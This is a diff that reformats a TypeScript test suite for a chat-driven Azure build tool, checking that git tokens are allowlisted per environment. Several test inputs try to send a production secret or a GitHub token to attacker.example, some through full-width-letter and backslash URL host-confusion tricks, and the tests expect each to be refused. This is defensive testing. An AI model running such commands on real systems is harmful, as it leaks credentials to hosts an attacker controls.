@@ -77,7 +77,10 @@ async function nothingHappened(harness: Harness): Promise<void> {
 describe('git tokens are an allowlist per environment', () => {
   it('refuses the attack from the security review: a production secret sent as a git token to a host the builder chose', async () => {
     h = await start();
-    const reply = await refusal(h, 'task create --name exfil --image x:1 --context https://attacker.example/r.git --commit-trigger-enabled false --git-access-token @kv:db-password --env prod');
+    const reply = await refusal(
+      h,
+      'task create --name exfil --image x:1 --context https://attacker.example/r.git --commit-trigger-enabled false --git-access-token @kv:db-password --env prod',
+    );
     expect(reply).toContain('gitAccessTokens');
     expect(reply).toContain('Nothing was queued');
     expect(reply).not.toContain('db-password');
@@ -92,7 +95,10 @@ describe('git tokens are an allowlist per environment', () => {
 
   it('refuses an allowed token on a host it is not allowed to go to', async () => {
     h = await start();
-    const reply = await refusal(h, 'task create --name exfil --image x:1 --context https://attacker.example/r.git --commit-trigger-enabled false --git-access-token @kv:github-pat --env prod');
+    const reply = await refusal(
+      h,
+      'task create --name exfil --image x:1 --context https://attacker.example/r.git --commit-trigger-enabled false --git-access-token @kv:github-pat --env prod',
+    );
     expect(reply).toContain('github-pat');
     expect(reply).toContain('github.com');
     expect(reply).toContain('attacker.example');
@@ -102,17 +108,27 @@ describe('git tokens are an allowlist per environment', () => {
   it('reads the host strictly: a URL that could reach another host is refused', async () => {
     h = await start();
     // WHATWG URL maps the full-width letter to github.com; a git client need not.
-    const fullWidth = await refusal(h, 'task create --name exfil --image x:1 --context https://\uff47ithub.com/r.git --commit-trigger-enabled false --git-access-token @kv:github-pat --env prod');
+    const fullWidth = await refusal(
+      h,
+      'task create --name exfil --image x:1 --context https://\uff47ithub.com/r.git --commit-trigger-enabled false --git-access-token @kv:github-pat --env prod',
+    );
     expect(fullWidth).toContain('plain https://');
     // WHATWG URL says github.com; Go's URL parser and curl say attacker.example.
-    const backslash = await refusal(h, 'task create --name exfil --image x:1 --context https://github.com\\@attacker.example/r.git --commit-trigger-enabled false --git-access-token @kv:github-pat --env prod');
+    const backslash = await refusal(
+      h,
+      'task create --name exfil --image x:1 --context https://github.com\\@attacker.example/r.git --commit-trigger-enabled false --git-access-token @kv:github-pat --env prod',
+    );
     expect(backslash).toMatch(/plain https:\/\/|Remove the user name/);
     await nothingHappened(h);
   });
 
   it('refuses --git-access-token in an environment that lists no git tokens, naming the setting', async () => {
     h = await start();
-    const reply = await refusal(h, 'task create --name buildweb --image web:1 --context https://github.com/org/app.git --git-access-token @kv:github-pat', ids.devChannel);
+    const reply = await refusal(
+      h,
+      'task create --name buildweb --image web:1 --context https://github.com/org/app.git --git-access-token @kv:github-pat',
+      ids.devChannel,
+    );
     expect(reply).toContain('environments.dev.gitAccessTokens');
     await new Promise((r) => setTimeout(r, 300));
     expect(h.azure.keyVault.reads('kv-dev', 'github-pat')).toHaveLength(0);
@@ -121,7 +137,10 @@ describe('git tokens are an allowlist per environment', () => {
 
   it('lets an allowed token go to its own host', async () => {
     h = await start();
-    const res = await h.command('task create --name buildweb --image web:{{.Run.ID}} --context https://github.com/org/app.git --git-access-token @kv:github-pat --env prod', { userId: ids.alice, channelId: ids.prodChannel });
+    const res = await h.command(
+      'task create --name buildweb --image web:{{.Run.ID}} --context https://github.com/org/app.git --git-access-token @kv:github-pat --env prod',
+      { userId: ids.alice, channelId: ids.prodChannel },
+    );
     expect(replyOf(res).text).toContain('queued as job');
     await h.slack.waitFor(() => h!.azure.acr.task('contosoprod', 'buildweb') !== undefined, 15_000);
     expect(h.azure.acr.taskGitToken('contosoprod', 'buildweb')).toBe(PAT);
